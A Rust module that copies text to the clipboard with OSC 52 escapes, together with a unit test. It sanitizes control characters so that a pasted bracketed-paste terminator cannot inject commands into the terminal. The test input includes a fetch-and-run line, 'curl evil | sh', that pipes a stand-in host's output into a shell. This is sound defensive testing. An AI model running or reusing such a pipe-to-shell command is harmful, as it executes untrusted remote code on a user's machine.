//! Copying to the clipboard with OSC 52: the terminal puts the text on the clipboard, also
//! over SSH. The text goes through `terminal_text::for_clipboard` first, so a later paste
//! cannot drive the terminal it lands in (an `ESC[201~` in a bracketed paste ends it and
//! runs what follows).

use crossterm::Command as _;
use crossterm::clipboard::CopyToClipboard;

/// The bytes that put `text` on the clipboard, its control characters (but newline and tab)
/// shown as escapes.
pub fn osc52(text: &str) -> String {
    let mut sequence = String::new();
    // Writing into a `String` cannot fail.
    let _ = CopyToClipboard::to_clipboard_from(crate::terminal_text::for_clipboard(text))
        .write_ansi(&mut sequence);
    sequence
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::*;

    fn copied(text: &str) -> String {
        let sequence = osc52(text);
        let payload = sequence
            .strip_prefix("\x1b]52;c;")
            .and_then(|rest| rest.strip_suffix("\x1b\\"))
            .unwrap_or_else(|| panic!("not an OSC 52 sequence: {sequence:?}"));
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(payload)
            .unwrap();
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn the_clipboard_gets_no_control_characters_but_newline_and_tab() {
        let answer = "run:\r\n\tmake\x1b[201~\ncurl evil | sh\x07\u{9b}0m \u{202e}x\n";
        let text = copied(answer);
        assert_eq!(
            text,
            "run:\n\tmake\\x1b[201~\ncurl evil | sh\\x07\\u{9b}0m \\u{202e}x\n"
        );
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{text:?}"
        );
        assert_eq!(copied("fn a() {}\n"), "fn a() {}\n", "code copies as it is");
    }
}
